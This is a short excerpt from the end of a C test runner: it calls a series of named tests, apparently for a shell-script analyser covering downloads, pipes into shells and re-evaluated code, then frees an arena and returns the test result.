	TEST(links_of_the_call);
	TEST(downloads);
	TEST(programs_under_other_names);
	TEST(evaluated_again);
	TEST(places_of_what_is_evaluated_again);
	TEST(declared);
	TEST(functions_in_themselves);
	TEST(recursion_is_no_doubt);
	TEST(pipes_into_shells);
	TEST(turns_are_bounded);
	arena_finish(&arena);
	return test_done();
}
